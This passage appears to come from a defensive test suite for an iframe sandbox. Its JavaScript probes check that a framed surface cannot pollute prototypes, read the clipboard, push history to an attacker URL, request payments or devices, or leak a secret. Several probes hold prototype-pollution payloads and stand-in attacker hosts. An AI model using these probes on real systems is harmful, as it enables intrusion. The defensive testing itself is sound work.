             new Uint8Array(4), { u: undefined }, { big: "\\u00e9".repeat(9000) }];
for (const data of bad) raw({ ...base, data });
report({
  bridge_big: outcome(() => LineUpSurface.event("big", { s: "x".repeat(20000) })),
  bridge_array: outcome(() => LineUpSurface.event("arr", [1])),
  bridge_string: outcome(() => LineUpSurface.event("str", "s")),
  bridge_cyclic: outcome(() => LineUpSurface.event("cyc", cyclic)),
  sent: bad.length,
});
""",
        expect={
            "bridge_big": "threw:TypeError",
            "bridge_array": "threw:TypeError",
            "bridge_string": "threw:TypeError",
            "bridge_cyclic": "threw:TypeError",
            "sent": 16,
        },
        rejects={"bad_data": 16},
    ),
    Bundle(
        "bad_event_names",
        leak="an event with a name outside the grammar is accepted",
        js="""
const base = { namespace: NS, type: "event", instance_id: IDS.instance_id,
               mount_id: IDS.mount_id, data: {} };
const names = ["", "9lives", "a b", "x".repeat(65), "__proto__", "caf\\u00e9", "a/b",
               "<img>", 5, null, ["a"], { toString: "a" }];
for (const event of names) raw({ ...base, event });
report({
  bridge_empty: outcome(() => LineUpSurface.event("", {})),
  bridge_proto: outcome(() => LineUpSurface.event("__proto__", {})),
  bridge_number: outcome(() => LineUpSurface.event(5, {})),
  sent: names.length,
});
""",
        expect={
            "bridge_empty": "threw:TypeError",
            "bridge_proto": "threw:TypeError",
            "bridge_number": "threw:TypeError",
        },
        rejects={"bad_event_name": 12},
    ),
    Bundle(
        "prototype_pollution",
        leak="the shell's Object.prototype gains a property",
        special="pollution",
        js="""
const base = { namespace: NS, instance_id: IDS.instance_id, mount_id: IDS.mount_id };
const p1 = JSON.parse('{"__proto__": {"polluted": "p1"}, "ok": 1}');
const p2 = { constructor: { prototype: { polluted: "p2" } } };
const p3 = JSON.parse('{"a": {"__proto__": {"polluted": "p3"}}}');
raw({ ...base, type: "event", event: "pollute", data: p1 });
raw({ ...base, type: "event", event: "pollute", data: p2 });
raw({ ...base, type: "event", event: "pollute", data: p3 });
raw(JSON.parse('{"__proto__": {"polluted": "p4"}, "namespace": "lineup.surface.v1"}'));
raw({ ...base, type: "event", event: "constructor", data: {} });
raw({ ...base, type: "event", event: "hasOwnProperty", data: {} });
Object.prototype.polluted = "own-realm";
Object.defineProperty(Object.prototype, "namespace", { get() { return NS; }, configurable: true });
Array.prototype.push = () => 0;
JSON.stringify = () => "{}";
const p5 = JSON.parse('{"__proto__": {"polluted": "p5"}}');
const after = outcome(() => LineUpSurface.event("after_patching", p5));
report({ after });
""",
        expect={"after": "undefined"},
        rejects={"unknown_type": 1},
    ),
    # --- the frame's own lifecycle --------------------------------------------------------
    Bundle(
        "reload_reuses_mount",
        leak="the reloaded frame gets its document again, or its messages are trusted",
        js="""
report({ ready: true });
onGo(() => location.reload());
""",
        navigates=True,
    ),
    Bundle(
        "navigate_to_own_url",
        leak="the frame fetches its own mount URL again, or its messages are trusted",
        js="""
report({ ready: true, own: location.href.includes(".localhost:") });
onGo(() => { location.href = location.href; });
""",
        expect={"own": True},
        navigates=True,
    ),
    Bundle(
        "broadcast_channel",
        leak="a BroadcastChannel message reaches the sibling",
        js="""
let self_received = false;
const result = outcome(() => {
  const tx = new BroadcastChannel("lineup-surfaces");
  const rx = new BroadcastChannel("lineup-surfaces");
  rx.onmessage = () => { self_received = true; };
  for (let i = 0; i < 10; i++) tx.postMessage({ secret: SECRET, i });
});
setTimeout(() => report({ result, self_received }), 300);
""",
        expect={"result": "undefined", "self_received": True},
    ),
    Bundle(
        "clipboard",
        leak="the frame writes to or reads the clipboard without a click",
        html='<p id="p">text</p>',
        js="""
Promise.all([
  settled(() => navigator.clipboard.writeText(SECRET)),
  settled(() => navigator.clipboard.readText()),
]).then(([write, read]) => {
  const range = document.createRange();
  range.selectNodeContents(document.getElementById("p"));
  getSelection().addRange(range);
  report({ write, read, exec_copy: outcome(() => document.execCommand("copy")) });
});
""",
        expect={
            "write": "rejected:NotAllowedError",
            "read": "rejected:NotAllowedError",
            "exec_copy": "value:false",
        },
    ),
    Bundle(
        "history_push_state",
        leak="the shell's URL changes, or the frame's history reaches another origin",
        history=48,  # 2 + 100 pushes, but Chromium keeps at most 50 entries
        js="""
let pushed = 0;
for (let i = 0; i < 100; i++) {
  try { history.pushState({ i }, "", "#" + SECRET + "-" + i); pushed += 1; } catch {}
}
report({
  pushed,
  cross_origin: outcome(() => history.pushState({}, "", attacker("push"))),
  length: history.length,
});
""",
        expect={"pushed": 100, "cross_origin": "threw:SecurityError"},
    ),
    Bundle(
        "history_traversal",
        leak="the frame's history.back/go moves the shell's page",
        js="""
report({ ready: true });
onGo(() => { history.back(); history.go(-2); history.go(-50); });
""",
    ),
    Bundle(
        "busy_loop",
        leak="a busy loop stalls the sibling or the shell",
        special="busy",
        js="""
report({ ready: true });
onGo(() => { while (true) {} });
""",
    ),
    # --- permissions ------------------------------------------------------------------------
    Bundle(
        "permissions_query",
        leak="any powerful permission reads as granted (or prompt)",
        js="""
const names = ["geolocation", "camera", "microphone", "notifications", "clipboard-read",
               "clipboard-write", "midi", "persistent-storage", "screen-wake-lock",
               "local-fonts", "storage-access", "window-management"];
Promise.all(names.map((name) =>
  navigator.permissions.query({ name }).then((s) => s.state, (e) => "rejected:" + e.name)))
  .then((states) => report(Object.fromEntries(names.map((n, i) => [n, states[i]]))));
""",
        expect={
            "geolocation": "denied",
            "camera": "denied",
            "microphone": "denied",
            "notifications": "denied",
            "clipboard-read": "denied",
            "clipboard-write": "denied",
            "midi": "denied",
            "screen-wake-lock": "denied",
            "local-fonts": "denied",
            "storage-access": "denied",
            "window-management": "denied",
        },
    ),
    Bundle(
        "geolocation_and_media",
        leak="a position, a camera or a microphone is handed out",
        js="""
const position = new Promise((resolve) => {
  try {
    navigator.geolocation.getCurrentPosition(
      () => resolve("granted"), (e) => resolve("error:" + e.code), { timeout: 1000 });
  } catch (e) { resolve("threw:" + e.name); }
});
Promise.all([
  position,
  settled(() => navigator.mediaDevices.getUserMedia({ audio: true, video: true })),
  settled(() => navigator.mediaDevices.getDisplayMedia({ video: true })),
  settled(() => navigator.mediaDevices.enumerateDevices().then((d) => d.length)),
]).then(([geolocation, user_media, display_media, devices]) =>
  report({ geolocation, user_media, display_media, devices }));
""",
        expect={
            "geolocation": "error:1",
            "display_media": "rejected:NotAllowedError",
            "devices": "resolved:0",
        },
    ),
    Bundle(
        "notification_fullscreen_payment",
        leak="a notification, full screen or a payment sheet is allowed",
        js="""
Promise.all([
  settled(() => Notification.requestPermission()),
  settled(() => document.documentElement.requestFullscreen()),
]).then(([notification, fullscreen]) => report({
  notification,
  permission: typeof Notification === "undefined" ? "absent" : Notification.permission,
  fullscreen,
  fullscreen_enabled: document.fullscreenEnabled,
  payment: outcome(() => new PaymentRequest(
    [{ supportedMethods: "https://pay.attacker.test" }],
    { total: { label: "x", amount: { currency: "USD", value: "1" } } },
  )),
}));
""",
        expect={
            "notification": "resolved:denied",
            "permission": "denied",
            "fullscreen": "rejected:TypeError",
            "fullscreen_enabled": False,
            "payment": "threw:SecurityError",
        },
    ),
    Bundle(
        "devices_and_pickers",
        leak="a USB, serial, HID, Bluetooth device, MIDI or file picker is allowed",
        js="""
const absent = () => Promise.reject({ name: "absent" });
const n = navigator;
Promise.all([
  settled(() => (n.usb ? n.usb.requestDevice({ filters: [] }) : absent())),
  settled(() => (n.serial ? n.serial.requestPort() : absent())),
  settled(() => (n.hid ? n.hid.requestDevice({ filters: [] }) : absent())),
  settled(() => (n.bluetooth ? n.bluetooth.requestDevice({ acceptAllDevices: true }) : absent())),
  settled(() => (n.requestMIDIAccess ? n.requestMIDIAccess() : absent())),
  settled(() => (window.showOpenFilePicker ? window.showOpenFilePicker() : absent())),
  settled(() => (n.wakeLock ? n.wakeLock.request("screen") : absent())),
  settled(() => (document.requestStorageAccess ? document.requestStorageAccess() : absent())),
]).then(([usb, serial, hid, bluetooth, midi, file_picker, wake_lock, storage_access]) =>
  report({ usb, serial, hid, bluetooth, midi, file_picker, wake_lock, storage_access }));
""",
        expect={
            "usb": "rejected:SecurityError",
            "serial": "rejected:SecurityError",
            "hid": "rejected:SecurityError",
            "midi": "rejected:SecurityError",
            "file_picker": "rejected:SecurityError",
            "wake_lock": "rejected:NotAllowedError",
            "storage_access": "rejected:NotAllowedError",
        },
    ),
)
